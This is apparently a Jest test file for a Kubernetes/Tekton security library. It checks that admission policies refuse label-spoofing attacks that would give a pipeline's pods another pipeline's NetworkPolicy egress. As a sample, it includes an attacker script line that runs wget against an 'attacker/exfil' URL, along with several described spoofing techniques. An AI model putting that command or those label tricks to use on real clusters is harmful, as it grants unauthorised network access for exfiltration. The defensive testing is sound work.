/**
 * Attacks on the labels a SecurePipeline's NetworkPolicies select its pods by
 * (`secure-tekton/pipeline`, `tekton.dev/pipelineTask`), judged with both oracles: the API
 * server's admission of every request Tekton v1.15 makes on the way to the pods (vap-eval, all
 * the policies of TektonAdmissionPolicies with their bindings), and the egress the pods would get
 * from the pipeline's NetworkPolicies were the requests admitted (netpol-eval).
 *
 * Tekton v1.15 dry-run creates every Pipeline and Task a resolver fetches in the run's namespace,
 * as its controller and under a random name, before it uses it (pkg/reconciler/apiserver
 * DryRunValidate, from readRuntimeObjectAsPipeline and readRuntimeObjectAsTask); a refusal fails
 * the run (handleDryRunCreateErr: the policies answer 422 Invalid, a permanent error) before any
 * TaskRun or pod exists. Then the fetched Pipeline's labels go onto the PipelineRun, under its own
 * (storePipelineSpecAndMergeMeta), and from there onto every TaskRun and pod
 * (createChildResourceLabels, pod makeLabels).
 */
import { Chart, Testing } from 'cdk8s';
import { EgressPeer, EgressPort, HardenedNamespace, SecurePipeline, SecurePipelineRun, SecureTask, TektonAdmissionPolicies } from '../../src';
import { step } from '../helpers/constructs';
import { describeWithNetpolEval, NetpolPod, netpolEval } from '../helpers/netpol-eval';
import { AdmissionRequestInput, evaluateCases } from '../helpers/vap-eval';

const CONTROLLER = 'system:serviceaccount:tekton-pipelines:tekton-pipelines-controller';
const RUNNER = 'release-runner';
const GITHUB = '140.82.112.3';
/** What Tekton's DryRunValidate names the object it dry-run creates (uuid.NewString()). */
const DRY_RUN_NAME = '0b6f1f0e-3c1a-4b8e-9d55-6f0d2f7a9c41';
const RECORD = 'secure-tekton/relax.RUN_POD_OVERRIDES';

/** A SecurePipeline `release` in `namespace`: `fetch` may reach GitHub over 443, `lint` nothing; and a run of it. */
function release(namespace: string, script = '#!/bin/sh\necho hello\n') {
  const c = new Chart(Testing.app(), namespace, { namespace });
  new HardenedNamespace(c, 'ns', { name: namespace });
  const pipeline = new SecurePipeline(c, 'release', { serviceAccountName: RUNNER });
  const fetch = pipeline.addTask({ task: new SecureTask(c, 'fetch', { steps: [step({ script })] }) });
  fetch.allowEgressTo(EgressPeer.cidr('140.82.112.0/20'), [EgressPort.tcp(443)]);
  pipeline.addTask({ task: new SecureTask(c, 'lint', { steps: [step({ script })] }) });
  new SecurePipelineRun(c, 'run', { pipeline });
  const objects = Testing.synth(c);
  const one = (kind: string) => objects.find((o: any) => o.kind === kind);
  return { objects, pipeline: one('Pipeline'), run: one('PipelineRun'), tasks: objects.filter((o: any) => o.kind === 'Task') };
}

function admissionPolicies(): any[] {
  const c = new Chart(Testing.app(), 'admission');
  new TektonAdmissionPolicies(c, 'admission', { namespaces: ['ci', 'shared'], allowedServiceAccounts: [RUNNER] });
  return Testing.synth(c).filter((o: any) => o.kind === 'ValidatingAdmissionPolicy' || o.kind === 'ValidatingAdmissionPolicyBinding');
}

/** The refusals of each request by every policy, with its binding. */
function refusals(requests: AdmissionRequestInput[]): string[][] {
  const all = admissionPolicies();
  const [result] = evaluateCases([{
    policies: all.filter((o) => o.kind === 'ValidatingAdmissionPolicy'),
    bindings: all.filter((o) => o.kind === 'ValidatingAdmissionPolicyBinding'),
    requests,
  }]);
  return result.requests.map((r) => r.verdicts.flatMap((v) => v.denials.map((d) => `${v.policy}: ${d.message}`)));
}

/** Which of GitHub:443 and GitHub:80 each pod reaches under `policies`. */
function reaches(policies: any[], pods: Record<string, Record<string, string>>): Record<string, string[]> {
  const list: NetpolPod[] = Object.entries(pods).map(([name, labels], i) => ({ namespace: 'ci', name, labels, ip: `10.244.0.${i + 1}` }));
  const ports = [443, 80];
  const [verdict] = netpolEval([{
    policies,
    namespaces: [{ name: 'ci' }, { name: 'kube-system' }],
    pods: list,
    traffic: list.flatMap((p) => ports.map((port) => ({ from: { pod: `ci/${p.name}` }, to: { ip: GITHUB }, port }))),
  }]);
  if (verdict.error !== undefined) throw new Error(verdict.error);
  return Object.fromEntries(list.map((p, i) => [p.name, ports.filter((_, k) => verdict.results[i * ports.length + k].egress.allowed).map((port) => `github:${port}`)]));
}

/** The labels Tekton gives the pod of pipeline task `task` of a run of a Pipeline with `pipelineLabels`, named `pipeline`. */
function podLabels(pipelineLabels: Record<string, string>, pipeline: string, task: string): Record<string, string> {
  return {
    ...pipelineLabels,
    'tekton.dev/pipeline': pipeline,
    'tekton.dev/pipelineRun': `${pipeline}-run-x7k2p`,
    'tekton.dev/pipelineTask': task,
    'tekton.dev/memberOf': 'tasks',
    'tekton.dev/taskRun': `${pipeline}-run-x7k2p-${task}`,
    'app.kubernetes.io/managed-by': 'tekton-pipelines',
  };
}

const PIPELINE_LABEL_REFUSAL = "secure-tekton-run-pod-templates: A Pipeline's secure-tekton/pipeline label is not its own name, and Tekton copies it onto the"
  + " TaskRuns and pods of the Pipeline's runs: the NetworkPolicies of the pipeline it names (that pipeline's egress) would select them [RUN_POD_OVERRIDES]."
  + " Remove the label, or give it the Pipeline's metadata.name.";
const TASK_LABEL_REFUSAL = 'secure-tekton-run-pod-templates: A Task sets a label Tekton gives only the TaskRuns of a PipelineRun (tekton.dev/pipeline,'
  + ' pipelineTask, pipelineRun or memberOf), which Tekton copies onto every TaskRun of the Task that lacks it (one no PipelineRun made) and its pod: the'
  + " NetworkPolicies that select that pipeline task's pods (its egress) would select this one [RUN_POD_OVERRIDES]. Remove the label: Tekton sets it.";
const SECURE_TASK_REFUSAL = 'secure-tekton-run-pod-templates: A Task or a TaskRun sets the secure-tekton/pipeline label, which Tekton copies onto the'
  + " TaskRun's pod (a Task's onto each TaskRun of it that lacks it, one no PipelineRun made): the NetworkPolicies of the pipeline it names (that pipeline's"
  + " egress) would select that pod [RUN_POD_OVERRIDES]. Remove the label: a SecurePipeline writes secure-tekton/pipeline on its Pipeline, with the Pipeline's"
  + ' name, and Tekton copies it onto the pods of its runs.';
const TASK_RUN_SPECS_REFUSAL = "secure-tekton-run-pod-templates: A PipelineRun's taskRunSpecs[].metadata.labels set a tekton.dev/ label, which wins over"
  + " the one Tekton gives the task's TaskRun and pod: the NetworkPolicies that select pods by it (another task's or another pipeline's egress) would"
  + " select this task's pods [RUN_POD_OVERRIDES]. Remove the label: Tekton sets it.";

describeWithNetpolEval('egress label attacks (netpol-eval)', () => {
  describe('with the admission policies (vap-eval)', () => {
    const victim = release('ci');
    const policies = victim.objects.filter((o: any) => o.kind === 'NetworkPolicy');

    test('a Pipeline named like the victim\'s, labelled with its name in another bound namespace, run here through the cluster resolver: '
      + 'what its pods would reach, and Tekton\'s dry-run create of it here is refused', () => {
      // the attacker's namespace: a library Pipeline `release` whose fetch task runs the attacker's script, admitted there
      const attacker = release('shared', '#!/bin/sh\nwget -q -O- https://github.com/attacker/exfil\n');
      expect(attacker.pipeline.metadata).toEqual(expect.objectContaining({ name: 'release', namespace: 'shared', labels: { 'secure-tekton/pipeline': 'release' } }));
      // the victim's run of it, in ci: every policy admits the run (a literal bound namespace for the cluster resolver)
      const run = structuredClone(victim.run);
      run.spec.pipelineRef = {
        resolver: 'cluster',
        params: [{ name: 'kind', value: 'pipeline' }, { name: 'name', value: 'release' }, { name: 'namespace', value: 'shared' }],
      };
      // Tekton dry-run creates the fetched Pipeline in the run's namespace, under a random name, as its controller
      const fetched = structuredClone(attacker.pipeline);
      fetched.metadata = { ...fetched.metadata, name: DRY_RUN_NAME, namespace: 'ci' };
      const relaxed = structuredClone(fetched);
      relaxed.metadata.annotations = { [RECORD]: '*: the publisher says its pods need this egress' };
      const [inShared, theRun, dryRun, dryRunRelaxed] = refusals([
        { object: attacker.pipeline, namespaceName: 'shared', userInfo: { username: 'mallory@example.com' } },
        { object: run, namespaceName: 'ci', userInfo: { username: 'mallory@example.com' } },
        { object: fetched, namespaceName: 'ci', userInfo: { username: CONTROLLER }, dryRun: true },
        { object: relaxed, namespaceName: 'ci', userInfo: { username: CONTROLLER }, dryRun: true },
      ]);
      expect(inShared).toEqual([]);
      expect(theRun).toEqual([]);
      expect(dryRun).toEqual([PIPELINE_LABEL_REFUSAL]);
      expect(dryRunRelaxed).toEqual([PIPELINE_LABEL_REFUSAL]);
      // what is at stake: the pods Tekton would make of it carry the label and get the victim's fetch egress; without it, none
      expect(reaches(policies, {
        'fetched-fetch': podLabels(attacker.pipeline.metadata.labels, 'release', 'fetch'),
        'fetched-lint': podLabels(attacker.pipeline.metadata.labels, 'release', 'lint'),
        'unlabelled-fetch': podLabels({}, 'release', 'fetch'),
      })).toEqual({ 'fetched-fetch': ['github:443'], 'fetched-lint': [], 'unlabelled-fetch': [] });
    });

    test("a run's record does not let its taskRunSpecs give a task another task's tekton.dev/pipelineTask (and so that task's egress)", () => {
      const moved = structuredClone(victim.run);
      moved.metadata.annotations = { ...moved.metadata.annotations, [RECORD]: 'task/lint: lint needs to reach GitHub for its rules' };
      moved.spec.taskRunSpecs = [...(moved.spec.taskRunSpecs ?? []), { pipelineTaskName: 'lint', metadata: { labels: { 'tekton.dev/pipelineTask': 'fetch' } } }];
      const [own, relabelled] = refusals([
        { object: victim.run, namespaceName: 'ci', userInfo: { username: 'jane@example.com' } },
        { object: moved, namespaceName: 'ci', userInfo: { username: 'jane@example.com' } },
      ]);
      expect(own).toEqual([]);
      expect(relabelled).toEqual([TASK_RUN_SPECS_REFUSAL]);
      // the lint pod Tekton would make: the taskRunSpecs' label wins over its own (combineTaskRunAndTaskSpecLabels)
      const labels = victim.pipeline.metadata.labels;
      expect(reaches(policies, {
        'lint': podLabels(labels, 'release', 'lint'),
        'lint-as-fetch': { ...podLabels(labels, 'release', 'lint'), 'tekton.dev/pipelineTask': 'fetch' },
      })).toEqual({ 'lint': [], 'lint-as-fetch': ['github:443'] });
    });

    test('the child PipelineRun Tekton creates for a pipeline task that runs a pipeline (alpha) carries its parent run\'s label: refused, the parent fails', () => {
      // tektoncd/pipeline v1.15 createChildPipelineRun: every label of the parent run (createChildResourceLabels), tekton.dev/pipeline replaced by the child's
      const child = {
        apiVersion: 'tekton.dev/v1',
        kind: 'PipelineRun',
        metadata: {
          name: 'release-run-x7k2p-sub',
          namespace: 'ci',
          labels: { ...victim.pipeline.metadata.labels, 'tekton.dev/pipeline': 'shared-steps', 'tekton.dev/pipelineRun': 'release-run-x7k2p', 'tekton.dev/pipelineTask': 'sub' },
          ownerReferences: [{ apiVersion: 'tekton.dev/v1', kind: 'PipelineRun', name: 'release-run-x7k2p', uid: '5d0c9a52-7f0e-4c55-8a57-0e3c6c7f1b2d', controller: true }],
        },
        spec: {
          pipelineRef: { resolver: 'cluster', params: [{ name: 'kind', value: 'pipeline' }, { name: 'name', value: 'shared-steps' }, { name: 'namespace', value: 'shared' }] },
          taskRunTemplate: { serviceAccountName: RUNNER },
        },
      };
      const unlabelled = structuredClone(child);
      delete (unlabelled.metadata.labels as any)['secure-tekton/pipeline'];
      const [labelled, plain] = refusals([
        { object: child, namespaceName: 'ci', userInfo: { username: CONTROLLER } },
        { object: unlabelled, namespaceName: 'ci', userInfo: { username: CONTROLLER } },
      ]);
      expect(labelled).toEqual(['secure-tekton-run-pod-templates: A PipelineRun sets the secure-tekton/pipeline label (other than the pipelineRef.name of the'
        + " Pipeline it runs by name), which wins over the one Tekton copies from the Pipeline onto the run's TaskRuns and pods: the NetworkPolicies of the"
        + " pipeline it names (that pipeline's egress) would select them [RUN_POD_OVERRIDES]. Remove the label: a SecurePipeline writes secure-tekton/pipeline"
        + " on its Pipeline, with the Pipeline's name, and Tekton copies it onto the pods of its runs."]);
      expect(plain).toEqual([]);
      // what is at stake: the fetched child pipeline's task named fetch would get the parent's fetch egress
      expect(reaches(policies, {
        'child-fetch': { ...podLabels(victim.pipeline.metadata.labels, 'shared-steps', 'fetch'), 'tekton.dev/pipelineRun': 'release-run-x7k2p-sub' },
        'child-fetch-unlabelled': podLabels({}, 'shared-steps', 'fetch'),
      })).toEqual({ 'child-fetch': ['github:443'], 'child-fetch-unlabelled': [] });
    });

    test('a Task a resolver fetches, dry-run created here: the labels of a pipeline task refused whatever the records it carries say', () => {
      const task = (labels: Record<string, string>) => {
        const t = structuredClone(victim.tasks[0]);
        t.metadata = { ...t.metadata, name: DRY_RUN_NAME, namespace: 'ci', labels, annotations: { [RECORD]: '*: the publisher says its pods need this egress' } };
        return { object: t, namespaceName: 'ci', userInfo: { username: CONTROLLER }, dryRun: true };
      };
      expect(refusals([
        task({ 'tekton.dev/pipeline': 'release', 'tekton.dev/pipelineTask': 'fetch' }),
        task({ 'secure-tekton/pipeline': 'release' }),
        task({ 'app.kubernetes.io/version': '0.9' }),
      ])).toEqual([[TASK_LABEL_REFUSAL], [SECURE_TASK_REFUSAL], []]);
    });
  });
});
